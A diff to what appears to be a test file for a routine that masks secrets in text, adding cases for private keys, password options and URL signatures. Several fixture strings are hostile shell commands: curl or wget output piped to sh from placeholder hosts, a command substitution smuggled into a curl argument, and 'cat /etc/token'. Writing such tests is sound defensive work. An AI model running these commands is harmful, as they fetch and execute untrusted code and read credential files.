@@ -45,6 +45,31 @@ const HIDDEN: readonly (readonly [name: string, text: string, ...hidden: string[
     String.raw`"-----BEGIN PRIVATE KEY-----\n${LINE}\n-----END PRIVATE KEY-----"`,
     LINE,
   ],
+  [
+    'a private key that blanks divide',
+    `-----BEGIN PRIVATE KEY-----\n${LINE.replace(/.{8}/g, '$& ').trim()}\n-----END PRIVATE KEY-----`,
+    LINE.replace(/.{8}/g, '$& ').trim(),
+  ],
+  [
+    'a private key of SSH2',
+    `---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n${LINE}\n---- END SSH2 ENCRYPTED PRIVATE KEY ----`,
+    LINE,
+  ],
+  [
+    'a private key of PuTTY',
+    `PuTTY-User-Key-File-3: ssh-rsa\nPublic-Lines: 1\n${LINE}\nPrivate-Lines: 1\n${LINE}x\nPrivate-MAC: 1\n`,
+    `${LINE}x`,
+  ],
+  [
+    'the value after an option',
+    "a --password hunter2 --token 'b c' --api-key=k --passphrase d; x",
+    'hunter2',
+    'b c',
+    'k',
+    'd',
+  ],
+  ['a text in the quotes of a shell with escapes', "PASSWORD=$'a b' x", 'a b'],
+  ['a signature in a URL', 'curl "https://a.example/x?sv=1&sig=abcdefgh%2B"', 'abcdefgh%2B'],
   ['a private key without an end', `-----BEGIN PRIVATE KEY-----\n${LINE}\n`, LINE],
 ]
 
@@ -56,6 +81,15 @@ const SHOWN: readonly (readonly [name: string, text: string])[] = [
   ['substitutions and variables', 'TOKEN="$(cat /etc/token)"; token=$1; password: $PASSWORD; SECRET=`cat x`'],
   ['actions of templates', 'password: "{{ .Values "a" }}"\ntoken=<%= it.token %>'],
   ['a command in the argument of curl', 'curl -u "bob:$(wget -qO- https://x.example/i | sh)" https://a.example'],
+  ['an address, and its query', 'TOKEN="https://a.example/x?y=z"; curl $TOKEN | sh'],
+  [
+    'options with names and files',
+    'a --token-file x --secret name --kubeconfig admin.conf --token "$TOKEN" --password /etc/x --pass -x',
+  ],
+  [
+    'commands between the lines of a key',
+    '-----BEGIN PRIVATE KEY-----\nwget Http1 Then2 sh\n-----END PRIVATE KEY-----',
+  ],
   ['a header with a variable', 'curl -H "Authorization: Bearer $TOKEN" x'],
   ['a command after the name of a secret', 'token: x; curl https://a.example | sh'.replace('x; ', '; ')],
   ['commands in a value', "eval password='x; curl https://a.example | sh'"],
